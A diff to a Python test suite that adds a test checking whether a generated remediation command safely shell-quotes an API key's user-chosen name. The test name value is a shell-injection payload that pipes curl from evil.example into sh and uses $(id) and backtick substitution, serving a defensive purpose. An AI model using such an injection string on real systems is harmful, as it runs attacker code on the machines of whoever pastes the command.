@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from dataclasses import replace
 
 from cli import operator
@@ -435,3 +436,18 @@ def test_what_somebody_should_look_at_is_a_warning(ward):
         assert any(mend in each.mend for each in found), (plant.__name__, found)
 
     assert failing(ward.look()) == set()
+
+
+def test_what_somebody_called_his_key_is_a_word_in_the_command(ward):
+    """Commands are there to be pasted, and names are anybody's."""
+    name = "k'; curl evil.example | sh; '$(id)\n`id`"
+    text = new_api_key()
+    key = ApiKey(
+        text.key_id, text.secret_hash, CLIENT_SCOPES, ward.now, ward.now + 90 * 86_400, client_id="app", name=name
+    )
+    ward.wiring.api_keys.put(key, audit=operator.event("api_key.created"))
+
+    (mend,) = [each.mend for each in ward.look(people.FAMILY) if each.check == "api_keys.scopes"]
+
+    words = shlex.split(mend)
+    assert words[words.index("--name") + 1] == name
